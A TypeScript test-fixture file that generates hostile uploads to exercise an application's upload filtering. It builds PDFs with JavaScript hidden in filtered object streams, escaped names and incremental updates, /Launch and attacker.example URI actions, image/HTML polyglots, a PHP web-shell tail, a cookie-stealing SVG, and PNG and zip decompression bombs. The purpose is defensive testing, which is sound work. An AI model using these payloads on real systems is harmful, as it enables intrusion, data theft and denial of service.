// Hostile uploads (issue #27), made in code at test time: PDFs with actions hidden every way a reader
// still finds them (object streams behind each filter, escaped names, incremental updates, appended
// files), polyglots, pixel floods, truncated images, decompression bombs. Nothing big is committed.
import zlib from 'node:zlib';
import sharp from 'sharp';
import { pngFixture } from './accounts';
import { hostileXlsx } from './xlsx-files';

// ——— PDF ———

/** An object of a PDF: its number and what stands between `N 0 obj` and `endobj`. */
export interface PdfObject {
  num: number;
  body: string | Buffer;
}

export type PdfFilter = 'ASCIIHexDecode' | 'ASCII85Decode' | 'FlateDecode' | 'LZWDecode' | 'RunLengthDecode';

export interface PdfLayout {
  objects: PdfObject[];
  /** Objects kept in one compressed object stream (number `num`), encoded by `filters` in order. */
  objectStream?: { num: number; filters: PdfFilter[]; objects: PdfObject[] };
  /** Extra trailer entries, e.g. '/Encrypt 9 0 R'. */
  trailer?: string;
  root?: number;
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');

export function asciiHex(data: Buffer): Buffer {
  return latin1(`${data.toString('hex').replace(/(.{64})/g, '$1\n')}>`);
}

export function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let at = 0; at < data.length; at += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, at, Math.min(at + 4, data.length));
    const count = Math.min(4, data.length - at);
    let value = chunk.readUInt32BE(0);
    if (value === 0 && count === 4) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let i = 0; i < 5; i += 1) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, count + 1).join('');
  }
  return latin1(`${out}~>`);
}

/** RunLength: literal runs of up to 128 bytes, then the end marker. */
export function runLength(data: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < data.length; at += 128) {
    const run = data.subarray(at, at + 128);
    parts.push(Buffer.from([run.length - 1]), run);
  }
  parts.push(Buffer.from([128]));
  return Buffer.concat(parts);
}

/** LZW as PDF reads it (9-bit codes: the table is cleared before it would need 10 bits). */
export function lzw(data: Buffer): Buffer {
  const codes: number[] = [256];
  let table = new Map<string, number>();
  let next = 258;
  let word = '';
  for (const byte of data) {
    const char = String.fromCharCode(byte);
    const joined = word + char;
    if (word === '' || joined.length === 1 || table.has(joined)) {
      word = joined;
      continue;
    }
    codes.push(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
    table.set(joined, next);
    next += 1;
    word = char;
    if (next >= 500) {
      codes.push(256);
      table = new Map();
      next = 258;
    }
  }
  if (word !== '') codes.push(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
  codes.push(257);
  let bits = '';
  for (const code of codes) bits += code.toString(2).padStart(9, '0');
  bits = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0');
  const out = Buffer.alloc(bits.length / 8);
  for (let i = 0; i < out.length; i += 1) out[i] = parseInt(bits.slice(i * 8, i * 8 + 8), 2);
  return out;
}

const ENCODERS: Record<PdfFilter, (data: Buffer) => Buffer> = {
  ASCIIHexDecode: asciiHex,
  ASCII85Decode: ascii85,
  FlateDecode: (data) => zlib.deflateSync(data),
  LZWDecode: lzw,
  RunLengthDecode: runLength,
};

/** A stream object's body: the dictionary (its /Length added) and the data. */
export function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([latin1(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, latin1('\nendstream')]);
}

/** Data encoded with filters in the order a reader decodes them (the first filter is undone first). */
function encode(data: Buffer, filters: PdfFilter[]): Buffer {
  return [...filters].reverse().reduce((encoded, filter) => ENCODERS[filter](encoded), data);
}

function filterEntry(filters: PdfFilter[]): string {
  if (filters.length === 0) return '';
  return filters.length === 1 ? `/Filter /${filters[0]}` : `/Filter [${filters.map((f) => `/${f}`).join(' ')}]`;
}

/**
 * A well-formed PDF: objects with their real offsets, a cross-reference table (or, with an object
 * stream, a cross-reference stream naming the compressed objects), trailer, startxref, %%EOF.
 */
export function buildPdf(layout: PdfLayout, options: { version?: string; startOffset?: number; prev?: number } = {}): Buffer {
  const parts: Buffer[] = [];
  let length = options.startOffset ?? 0;
  const push = (data: Buffer) => {
    parts.push(data);
    length += data.length;
  };
  if (options.startOffset === undefined) push(latin1(`%PDF-${options.version ?? '1.7'}\n%\xe2\xe3\xcf\xd3\n`));
  const offsets = new Map<number, number>();
  const write = (object: PdfObject) => {
    offsets.set(object.num, length);
    push(Buffer.concat([latin1(`${object.num} 0 obj\n`), typeof object.body === 'string' ? latin1(object.body) : object.body, latin1('\nendobj\n')]));
  };
  layout.objects.forEach(write);
  const compressed = new Map<number, number>();
  if (layout.objectStream) {
    const { num, filters, objects } = layout.objectStream;
    let header = '';
    let body = Buffer.alloc(0);
    objects.forEach((object, index) => {
      header += `${object.num} ${body.length} `;
      body = Buffer.concat([body, typeof object.body === 'string' ? latin1(object.body) : object.body, latin1('\n')]);
      compressed.set(object.num, index);
    });
    const plain = Buffer.concat([latin1(header), body]);
    const data = encode(plain, filters);
    write({ num, body: stream(`/Type /ObjStm /N ${objects.length} /First ${header.length} ${filterEntry(filters)}`, data) });
  }
  const root = layout.root ?? 1;
  const all = [...offsets.keys(), ...compressed.keys()];
  const size = Math.max(...all) + 2;
  const extra = layout.trailer ? ` ${layout.trailer}` : '';
  const prev = options.prev === undefined ? '' : ` /Prev ${options.prev}`;
  const xrefAt = length;
  if (layout.objectStream) {
    const xrefNum = size - 1;
    const rows: Buffer[] = [];
    for (let n = 0; n < size; n += 1) {
      const row = Buffer.alloc(7);
      if (n === xrefNum) {
        row.writeUInt8(1, 0);
        row.writeUInt32BE(xrefAt, 1);
      } else if (offsets.has(n)) {
        row.writeUInt8(1, 0);
        row.writeUInt32BE(offsets.get(n)!, 1);
      } else if (compressed.has(n)) {
        row.writeUInt8(2, 0);
        row.writeUInt32BE(layout.objectStream.num, 1);
        row.writeUInt16BE(compressed.get(n)!, 5);
      } else {
        row.writeUInt16BE(0xffff, 5);
      }
      rows.push(row);
    }
    write({ num: xrefNum, body: stream(`/Type /XRef /Size ${size} /W [1 4 2] /Root ${root} 0 R${extra}${prev}`, Buffer.concat(rows)) });
  } else {
    let table = `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let n = 1; n < size; n += 1) {
      const at = offsets.get(n);
      table += at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`;
    }
    push(latin1(`${table}trailer\n<< /Size ${size} /Root ${root} 0 R${extra}${prev} >>\n`));
  }
  push(latin1(`startxref\n${xrefAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>';
const CONTENT = stream('', latin1('BT /F1 12 Tf 20 100 Td (Letter of intent) Tj ET'));
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\("pwned"\\)) >>';

/** A one-page PDF; `catalog` and `page` add entries to those dictionaries. */
export function cleanPdf({ catalog = '', page = '', extra = [] as PdfObject[] } = {}): Buffer {
  return buildPdf({
    objects: [
      { num: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalog}>>` },
      { num: 2, body: PAGES },
      { num: 3, body: page ? PAGE.replace(' >>', ` ${page} >>`) : PAGE },
      { num: 4, body: CONTENT },
      ...extra,
    ],
  });
}

/** The catalog (with an /OpenAction running JavaScript) hidden in an object stream behind `filters`. */
export function pdfScriptInObjectStream(filters: PdfFilter[]): Buffer {
  return buildPdf({
    objects: [
      { num: 2, body: PAGES },
      { num: 3, body: PAGE },
      { num: 4, body: CONTENT },
    ],
    objectStream: {
      num: 6,
      filters,
      objects: [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 5, body: SCRIPT },
      ],
    },
  });
}

/** A clean first revision, then an incremental update whose catalog opens with JavaScript. */
export function pdfIncrementalUpdate(): Buffer {
  const first = cleanPdf();
  const startxref = Number(/startxref\n(\d+)/.exec(first.toString('latin1'))![1]);
  const update = buildPdf(
    {
      objects: [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 5, body: SCRIPT },
      ],
    },
    { startOffset: first.length, prev: startxref },
  );
  return Buffer.concat([first, update]);
}

/** A ZIP archive with one stored file (a polyglot's tail, or a sellerboard "export"). */
export function zipFile(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name);
  const crc = zlib.crc32(content) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const localSize = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

/** A ZIP whose one deflated member inflates to `megabytes` MB of zeros (an xlsx-shaped zip bomb). */
export function zipBomb(megabytes: number): Buffer {
  const deflated = zlib.deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(deflated.length, 18);
  local.writeUInt32LE(megabytes * 1024 * 1024, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, name, deflated]);
}

const HTML = latin1('<html><body><script>fetch("/api/user").then(r=>r.text()).then(alert)</script></body></html>\n');

export interface HostilePdf {
  name: string;
  data: Buffer;
}

/** Every PDF variant of the issue (point 4) and a few more. */
export function hostilePdfs(): HostilePdf[] {
  const flateBomb = zlib.deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20));
  return [
    { name: 'script in an object stream behind ASCIIHexDecode', data: pdfScriptInObjectStream(['ASCIIHexDecode']) },
    { name: 'script in an object stream behind ASCII85Decode', data: pdfScriptInObjectStream(['ASCII85Decode']) },
    { name: 'script in an object stream behind [ASCIIHexDecode FlateDecode]', data: pdfScriptInObjectStream(['ASCIIHexDecode', 'FlateDecode']) },
    { name: 'script in an object stream behind FlateDecode', data: pdfScriptInObjectStream(['FlateDecode']) },
    { name: 'script in an object stream behind LZWDecode', data: pdfScriptInObjectStream(['LZWDecode']) },
    { name: 'script in an object stream behind RunLengthDecode', data: pdfScriptInObjectStream(['RunLengthDecode']) },
    { name: 'script in an object stream behind [ASCII85Decode RunLengthDecode]', data: pdfScriptInObjectStream(['ASCII85Decode', 'RunLengthDecode']) },
    { name: 'plain /OpenAction JavaScript', data: cleanPdf({ catalog: `/OpenAction ${SCRIPT} ` }) },
    { name: '#-escaped /J#61vaScript', data: cleanPdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ' }) },
    {
      name: '#-escaped with lower-case hex /#4aavaScript',
      data: cleanPdf({ catalog: '/Names << /#4aavaScript 5 0 R >> ', extra: [{ num: 5, body: '<< /Names [] >>' }] }),
    },
    {
      name: '/Names /JavaScript tree',
      data: cleanPdf({ catalog: '/Names << /JavaScript 5 0 R >> ', extra: [{ num: 5, body: `<< /Names [(a) ${SCRIPT}] >>` }] }),
    },
    { name: '/OpenAction /URI', data: cleanPdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/collect) >> ' }) },
    { name: '/OpenAction /Launch', data: cleanPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> ' }) },
    {
      name: '/OpenAction /GoToR to a UNC path',
      data: cleanPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> ' }),
    },
    { name: '/AA on a page', data: cleanPdf({ page: '/AA << /O << /S /URI /URI (https://attacker.example/open) >> >>' }) },
    {
      name: 'form field with /AA JavaScript',
      data: cleanPdf({ catalog: '/AcroForm << /Fields [5 0 R] >> ', extra: [{ num: 5, body: `<< /FT /Tx /T (amount) /AA << /K ${SCRIPT} >> >>` }] }),
    },
    {
      name: 'button submitting the form',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://attacker.example/) >> >>' }],
      }),
    },
    {
      name: 'embedded file (/EmbeddedFiles)',
      data: cleanPdf({
        catalog: '/Names << /EmbeddedFiles 5 0 R >> ',
        extra: [
          { num: 5, body: '<< /Names [(x.exe) 6 0 R] >>' },
          { num: 6, body: '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>' },
          { num: 7, body: stream('/Type /EmbeddedFile', latin1('MZ')) },
        ],
      }),
    },
    {
      name: '/FileAttachment annotation',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [
          { num: 5, body: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>' },
          { num: 6, body: '<< /Type /Filespec /F (a.html) >>' },
        ],
      }),
    },
    {
      name: 'XFA form',
      data: cleanPdf({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >> ',
        extra: [{ num: 5, body: stream('', latin1('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')) }],
      }),
    },
    {
      name: 'rich media annotation',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>' }],
      }),
    },
    { name: 'incremental update adding a script to a clean first revision', data: pdfIncrementalUpdate() },
    {
      name: 'object stream Flate bomb (200 MB)',
      data: buildPdf({
        objects: [
          { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
          { num: 2, body: PAGES },
          { num: 3, body: PAGE },
          { num: 4, body: CONTENT },
          { num: 5, body: stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flateBomb) },
        ],
      }),
    },
    {
      name: 'encrypted',
      data: buildPdf({
        objects: [
          { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
          { num: 2, body: PAGES },
          { num: 3, body: PAGE },
          { num: 4, body: CONTENT },
          { num: 5, body: '<< /Filter /Standard /V 2 /R 3 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /P -4 >>' },
        ],
        trailer: '/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]',
      }),
    },
  ];
}

/** PDFs that a rewrite makes safe (the links are taken out, the tail dropped). */
export function rewrittenPdfs(): HostilePdf[] {
  return [
    { name: 'ZIP appended after %%EOF', data: Buffer.concat([cleanPdf(), zipFile('payload.html', HTML)]) },
    { name: 'HTML appended after %%EOF', data: Buffer.concat([cleanPdf(), HTML]) },
    {
      name: 'link annotation with /URI',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [{ num: 5, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://attacker.example/phish) >> >>' }],
      }),
    },
    {
      name: 'link annotation with /GoToR',
      data: cleanPdf({
        page: '/Annots [5 0 R]',
        extra: [
          { num: 5, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A 6 0 R >>' },
          { num: 6, body: '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>' },
        ],
      }),
    },
    { name: 'harmless /OpenAction to page one', data: cleanPdf({ catalog: '/OpenAction [3 0 R /Fit] ' }) },
  ];
}

// ——— images and others ———

/** A JPEG of `width` × `height` with detail in it. */
export async function jpegFixture(width: number, height: number, options: { exifGps?: boolean } = {}): Promise<Buffer> {
  let pipeline = sharp(pngFixture(64, 48)).resize(width, height, { kernel: 'nearest' }).jpeg({ quality: 80 });
  if (options.exifGps) {
    pipeline = pipeline.withExif({
      IFD0: { Make: 'SecretCam', Model: 'GPS-Leak 3000', ImageDescription: 'home of the seller' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 12/1', GPSLongitudeRef: 'E', GPSLongitude: '13/1 24/1 36/1' },
    });
  }
  return pipeline.toBuffer();
}

/** A PNG with a chunk inserted after its header. */
function pngWithChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([latin1(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), length, body, crc, png.subarray(afterHeader)]);
}

/** A PNG whose header claims `width` × `height` (its CRC fixed), with the small picture's data. */
export function pngClaiming(width: number, height: number): Buffer {
  const png = Buffer.from(pngFixture(8, 8));
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(zlib.crc32(png.subarray(12, 29)) >>> 0, 29);
  return png;
}

/** A JPEG whose frame header claims 65,000 × 65,000 pixels. */
export async function jpegClaimingHuge(): Promise<Buffer> {
  const jpeg = Buffer.from(await jpegFixture(16, 16));
  for (let at = 2; at < jpeg.length - 9;) {
    const marker = jpeg[at + 1]!;
    const length = jpeg.readUInt16BE(at + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(65_000, at + 5);
      jpeg.writeUInt16BE(65_000, at + 7);
      return jpeg;
    }
    at += 2 + length;
  }
  throw new Error('no frame header');
}

/**
 * `total` zero bytes, zlib-compressed without ever holding them: one deflated 16 MB block of zeros
 * (flushed, not final) repeated, then a final one for the rest, and the Adler-32 of all-zero data.
 */
function deflatedZeros(total: number): Buffer {
  const chunk = 16 * 1024 * 1024;
  const block = zlib.deflateRawSync(Buffer.alloc(Math.min(chunk, total)), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const count = Math.floor(total / chunk);
  const last = zlib.deflateRawSync(Buffer.alloc(total - count * chunk), { level: 9 });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: count }, () => block), last, adler]);
}

/** A PNG of `width` × `height` black pixels: a few KB to MB that decode to width × height × 3 bytes. */
export function pngBomb(width: number, height: number): Buffer {
  const idat = deflatedZeros((width * 3 + 1) * height);
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  header[9] = 2; // RGB
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([latin1(type), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export interface HostileFile {
  name: string;
  filename: string;
  contentType: string;
  data: Buffer;
  /** Markers that must not be in anything stored from it. */
  markers: string[];
  /** In the bounded run of `npm test` (the full run takes all). */
  sample?: boolean;
}

const SVG = latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script><rect width="10" height="10"/></svg>');
const PHP = latin1('<?php system($_GET["c"]); ?>');
const MARKERS_HTML = ['<script', '<html'];

/** The whole corpus; each file goes to every upload endpoint. `full: false` leaves out what is slow to make. */
export async function hostileCorpus({ full = true } = {}): Promise<HostileFile[]> {
  const jpeg = await jpegFixture(64, 48);
  const png = pngFixture(40, 30);
  const gif = Buffer.concat([latin1('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), latin1(',\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'), HTML]);
  const files: HostileFile[] = [
    { name: 'GIF + HTML polyglot', filename: 'cat.gif', contentType: 'image/gif', data: gif, markers: MARKERS_HTML, sample: true },
    {
      name: 'JPEG + HTML polyglot (HTML after the image)',
      filename: 'photo.jpg',
      contentType: 'image/jpeg',
      data: Buffer.concat([jpeg, HTML]),
      markers: MARKERS_HTML,
      sample: true,
    },
    {
      name: 'JPEG with JavaScript in a comment segment',
      filename: 'photo.jpg',
      contentType: 'image/jpeg',
      data: Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0x00, HTML.length + 2]), HTML, jpeg.subarray(2)]),
      markers: MARKERS_HTML,
    },
    { name: 'PNG with a PHP tail', filename: 'logo.png', contentType: 'image/png', data: Buffer.concat([png, PHP]), markers: ['<?php'], sample: true },
    {
      name: 'PNG with an HTML text chunk',
      filename: 'logo.png',
      contentType: 'image/png',
      data: pngWithChunk(png, 'tEXt', Buffer.concat([latin1('Comment\0'), HTML])),
      markers: MARKERS_HTML,
    },
    {
      name: 'PDF + ZIP polyglot',
      filename: 'contract.pdf',
      contentType: 'application/pdf',
      data: Buffer.concat([cleanPdf(), zipFile('a.html', HTML)]),
      markers: ['PK\x03\x04', ...MARKERS_HTML],
      sample: true,
    },
    { name: 'ZIP with a PDF name', filename: 'contract.pdf', contentType: 'application/pdf', data: zipFile('a.pdf', cleanPdf()), markers: ['PK\x03\x04'] },
    { name: 'SVG named .png', filename: 'image.png', contentType: 'image/png', data: SVG, markers: ['<svg'], sample: true },
    { name: 'SVG sent as image/svg+xml', filename: 'image.svg', contentType: 'image/svg+xml', data: SVG, markers: ['<svg'] },
    { name: 'HTML named .jpg', filename: 'photo.jpg', contentType: 'image/jpeg', data: HTML, markers: MARKERS_HTML },
    {
      name: 'pixel flood PNG (30000 × 30000 declared)',
      filename: 'flood.png',
      contentType: 'image/png',
      data: pngClaiming(30_000, 30_000),
      markers: [],
      sample: true,
    },
    { name: 'pixel flood JPEG (65000 × 65000 declared)', filename: 'flood.jpg', contentType: 'image/jpeg', data: await jpegClaimingHuge(), markers: [] },
    { name: 'truncated PNG', filename: 'cut.png', contentType: 'image/png', data: png.subarray(0, Math.floor(png.length / 2)), markers: [], sample: true },
    { name: 'truncated JPEG', filename: 'cut.jpg', contentType: 'image/jpeg', data: jpeg.subarray(0, Math.floor(jpeg.length / 2)), markers: [] },
    {
      name: 'PNG bomb (50000 × 50000: 7 MB inflating to 7.5 GB)',
      filename: 'bomb.png',
      contentType: 'image/png',
      data: pngBomb(50_000, 50_000),
      markers: [],
      sample: true,
    },
    ...(full
      ? [{ name: 'PNG bomb within the limit (6000 × 6000)', filename: 'big.png', contentType: 'image/png', data: pngBomb(6_000, 6_000), markers: [] }]
      : []),
    {
      name: 'zip bomb (xlsx-shaped, 1 GB inflated)',
      filename: 'export.xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      data: zipBomb(1024),
      markers: [],
      sample: true,
    },
    {
      name: 'JPEG with EXIF GPS',
      filename: 'house.jpg',
      contentType: 'image/jpeg',
      data: await jpegFixture(64, 48, { exifGps: true }),
      markers: ['SecretCam', 'GPS-Leak'],
      sample: true,
    },
    ...hostilePdfs().map((pdf) => ({
      name: `PDF: ${pdf.name}`,
      filename: 'document.pdf',
      contentType: 'application/pdf',
      data: pdf.data,
      markers: [],
      sample: /ASCIIHexDecode FlateDecode|behind ASCII85Decode$|J#61|incremental|bomb|encrypted/.test(pdf.name),
    })),
    // Workbooks the data room's XLSX check refuses (decision 0223); every other endpoint refuses any ZIP.
    ...hostileXlsx().map((file) => ({
      name: `XLSX: ${file.name}`,
      filename: 'export.xlsx',
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      data: file.data,
      markers: [],
      sample: /macro-enabled|bomb|external workbook/.test(file.name),
    })),
    ...rewrittenPdfs().map((pdf) => ({
      name: `PDF: ${pdf.name}`,
      filename: 'document.pdf',
      contentType: 'application/pdf',
      data: pdf.data,
      markers: ['PK\x03\x04', '<script', 'attacker'],
      sample: /ZIP|URI/.test(pdf.name),
    })),
  ];
  return files;
}

/** 60 MB: over every endpoint's limit. */
export function sixtyMegabytes(): Buffer {
  const data = Buffer.alloc(60 * 1024 * 1024, 0x41);
  pngFixture(4, 4).copy(data);
  return data;
}
